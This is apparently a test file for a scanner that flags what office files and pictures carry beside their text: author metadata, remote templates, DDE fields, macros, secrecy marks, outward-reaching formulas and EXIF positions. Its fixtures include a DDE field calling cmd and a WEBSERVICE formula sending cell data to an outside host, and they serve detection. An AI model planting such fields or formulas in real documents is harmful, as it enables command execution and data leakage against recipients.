// What office packages and pictures carry beside their text: properties with people, references outward, formulas that fetch, positions of photographs.
import { pictureFacts } from '@shared/analysis/content/exif';
import { isPerson } from '@shared/analysis/content/properties';
import { proposals } from '@shared/assessment/proposals';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { edition } from '../../support/shipped-edition';
import { exif, jpeg, png } from './picture-support';
import { contents, filesOf, pack, rowsXml, workbook } from './readers-support';

const CORE = (creator: string, last: string) =>
  `<cp:coreProperties xmlns:cp="c" xmlns:dc="d"><dc:creator>${creator}</dc:creator><cp:lastModifiedBy>${last}</cp:lastModifiedBy></cp:coreProperties>`;
const relations = (...external: [string, string][]) =>
  `<Relationships>${external.map(([type, target], i) => `<Relationship Id="x${i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`).join('')}</Relationships>`;
const document = (body: string, more: Readonly<Record<string, string | Uint8Array>> = {}) =>
  pack(
    Object.entries({
      '[Content_Types].xml': '<Types/>',
      'word/document.xml': `<w:document xmlns:w="w"><w:body>${body}</w:body></w:document>`,
      ...more,
    }).map(([name, bytes]) => ({ name, bytes })),
  );
const P = '<w:p><w:r><w:t>示例</w:t></w:r></w:p>';
const found = async (bytes: Uint8Array) => (await filesOf(bytes)).flatMap((file) => contents(file));

describe('properties of an office file', () => {
  it('name the people in them, programs and unset accounts aside', async () => {
    expect(await found(document(P, { 'docProps/core.xml': CORE('林审一', '周复二') }))).toEqual([['METADATA_PERSON', 2]]);
    expect(await found(document(P, { 'docProps/core.xml': CORE('林审一', '林审一') }))).toEqual([['METADATA_PERSON', 1]]);
    expect(await found(document(P, { 'docProps/core.xml': CORE('openpyxl', 'Administrator') }))).toEqual([]);
    expect(
      await found(
        document(P, {
          'docProps/app.xml': '<Properties><Application>WPS</Application><Company>示例数据公司</Company><Manager></Manager></Properties>',
        }),
      ),
    ).toEqual([['METADATA_PERSON', 1]]);
    const custom =
      '<Properties><property name="编制人"><lpwstr>林审一</lpwstr></property><property name="页数"><i4>3</i4></property></Properties>';
    expect(await found(document(P, { 'docProps/custom.xml': custom }))).toEqual([['METADATA_PERSON', 1]]);
    const book = workbook(
      [
        {
          name: 'a',
          xml: rowsXml([
            ['x', 'y'],
            [1, 2],
          ]),
        },
      ],
      { 'docProps/core.xml': CORE('林审一', '') },
    );
    expect(await found(book)).toEqual([['METADATA_PERSON', 1]]);
    expect([isPerson('Lenovo'), isPerson('管理员'), isPerson('Microsoft Office User'), isPerson('王示例')]).toEqual([
      false,
      false,
      false,
      true,
    ]);
  });
  it('start at a low severity', async () => {
    const files = await filesOf(document(P, { 'docProps/core.xml': CORE('林审一', '') }));
    expect(proposals(files, edition).map(({ item, severity, after }) => [item, severity, after.severity])).toEqual([['r4-04', 2, 2]]);
  });
  it('are masked', async () => {
    const [, file] = await filesOf(document(P, { 'docProps/core.xml': CORE('林审一', '') }));
    expect(file?.content?.[0]?.samples).toEqual(['林*一']);
    expect(JSON.stringify(file)).not.toContain('林审一');
  });
});

describe('what a package refers to', () => {
  it('is fetched when it is a template, a picture or an object, and waits when it is a link', async () => {
    const rels = { 'word/_rels/settings.xml.rels': relations(['attachedTemplate', 'https://a.shili.jp/t.dotm']) };
    expect(await found(document(P, rels))).toEqual([
      ['FOREIGN_HOST', 1],
      ['REMOTE_PART', 1],
    ]);
    const link = { 'word/_rels/document.xml.rels': relations(['hyperlink', 'https://www.gov.cn/'], ['hyperlink', 'mailto:a@example.com']) };
    expect(await found(document(P, link))).toEqual([]);
    const share = { 'word/_rels/document.xml.rels': relations(['image', '\\\\fileserver\\x\\a.png']) };
    expect(await found(document(P, share))).toEqual([
      ['INTERNAL_HOST', 1],
      ['REMOTE_PART', 1],
    ]);
  });
  it('includes fields that run and macros', async () => {
    const field = '<w:p><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows cmd </w:instrText></w:r></w:p>';
    expect(await found(document(field))).toEqual([['ACTIVE_CONTROL', 1]]);
    expect(await found(document('<w:p><w:fldSimple w:instr="PAGE"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'))).toEqual([]);
    expect(await found(document(P, { 'word/vbaProject.bin': 'x' }))).toEqual([['MACRO', 1]]);
  });
});

describe('marks of secrecy', () => {
  it('are seen in the head of a page, in a watermark, and at the head of a printed sheet', async () => {
    const long = P.repeat(60);
    const head = { 'word/header1.xml': '<w:hdr xmlns:w="w"><w:p><w:r><w:t>机密</w:t></w:r></w:p></w:hdr>' };
    expect(await found(document(long, head))).toEqual([['CLASSIFICATION_MARK', 1]]);
    const drawn = '<w:p><w:r><w:pict xmlns:v="v"><v:shape><v:textpath string="绝密★"/></v:shape></w:pict></w:r></w:p>';
    expect(await found(document(long + drawn))).toEqual([['CLASSIFICATION_MARK', 1]]);
    const sheet = `${rowsXml([
      ['项', '值'],
      ['a', 1],
    ])}<headerFooter><oddHeader>&amp;L&amp;"黑体,加粗"&amp;14机密★3年&amp;R第&amp;P页</oddHeader></headerFooter>`;
    expect(await found(workbook([{ name: 'a', xml: sheet }]))).toEqual([['CLASSIFICATION_MARK', 1]]);
    const plain = `${rowsXml([
      ['项', '值'],
      ['a', 1],
    ])}<headerFooter><oddFooter>&amp;C第&amp;P页，共&amp;N页</oddFooter></headerFooter>`;
    expect(await found(workbook([{ name: 'a', xml: plain }]))).toEqual([]);
  });
});

describe('formulas of a workbook', () => {
  it('are counted when they leave it', async () => {
    const cell = (at: string, formula: string) => `<c r="${at}"><f>${formula}</f><v>1</v></c>`;
    const xml = `<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>项</t></is></c><c r="B1" t="inlineStr"><is><t>值</t></is></c></row>
      <row r="2">${cell('A2', 'SUM(B2:B9)')}${cell('B2', 'WEBSERVICE("http://a.shili.jp/?"&amp;A1)')}</row>
      <row r="3">${cell('A3', 'HYPERLINK("#b!A1","x")')}${cell('B3', "'C:\\[a.xlsx]b'!A1")}</row></sheetData>`;
    const [file] = await filesOf(workbook([{ name: 'a', xml }]));
    expect(contents(file)).toEqual([['FORMULA_REACHES_OUT', 2]]);
  });
});

describe('pictures', () => {
  it('tell who and where in either byte order', () => {
    for (const little of [true, false]) {
      expect(pictureFacts(jpeg(exif(little, { artist: 'Lin Shenyi' })))).toEqual({ people: ['Lin Shenyi'], position: true, serial: null });
      expect(pictureFacts(png('eXIf', exif(little, { gps: false })))).toEqual({ people: [], position: false, serial: null });
    }
    expect(pictureFacts(png('tEXt', new TextEncoder().encode('Author\0Lin Shenyi')))).toMatchObject({ people: ['Lin Shenyi'] });
  });
  it('in a document and in an archive are read for their properties, and left to a person', async () => {
    const picture = jpeg(exif(true, { artist: 'Lin Shenyi' }));
    expect(await found(document(P, { 'word/media/image1.jpg': picture }))).toEqual([
      ['METADATA_PERSON', 1],
      ['METADATA_POSITION', 1],
    ]);
    const files = await filesOf(pack([{ name: 'a.jpg', bytes: picture }]));
    expect(files.map(({ partly, content }) => [partly?.code, content?.map(({ code }) => code)])).toEqual([
      ['FORMAT_NOT_READ', ['METADATA_PERSON', 'METADATA_POSITION']],
    ]);
  });
  it('that lie about themselves are read as nothing, whatever their bytes', () => {
    const honest = jpeg(exif(true, { artist: 'Lin Shenyi' }));
    fc.assert(
      fc.property(fc.nat(honest.length - 1), fc.nat(255), fc.nat(honest.length), (at, byte, cut) => {
        const bytes = honest.slice(0, cut);
        bytes[at % Math.max(cut, 1)] = byte;
        expect(() => pictureFacts(bytes)).not.toThrow();
      }),
      { numRuns: 500 },
    );
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), (noise) => {
        expect(() => pictureFacts(jpeg(noise))).not.toThrow();
        expect(() => pictureFacts(png('eXIf', noise))).not.toThrow();
      }),
      { numRuns: 300 },
    );
  });
});
